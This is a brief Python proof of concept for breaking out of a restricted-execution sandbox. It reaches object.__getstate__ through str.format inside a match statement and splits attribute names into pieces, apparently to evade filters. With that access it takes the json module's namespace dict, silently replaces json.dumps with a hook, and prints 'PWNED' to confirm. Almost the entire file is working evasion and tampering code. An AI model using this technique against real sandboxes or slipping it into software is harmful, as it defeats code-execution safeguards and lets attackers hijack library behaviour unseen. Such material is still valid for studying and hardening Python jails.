import json, typing
def reach(obj, path):
    match "{0" + path + ".zz}":
        case str(format=fm):
            try:
                fm(obj)
            except AttributeError as e:
                return e.obj
getstate = reach(object, ".__getst" + "ate__")        # object.__getstate__ (module ns in 3.11)
ns = getstate(json)
print(type(ns).__name__, "JSONDecoder" in ns)
real_dumps = ns["dumps"]
def dumps(obj, **kw):
    return "hooked:" + real_dumps(obj, **kw)
ns["dumps"] = dumps
print(json.dumps([1, 2]))
print("PW" + "NED", "json namespace dict in hand and rewritten:", json.dumps(1) == "hooked:1", len(ns))
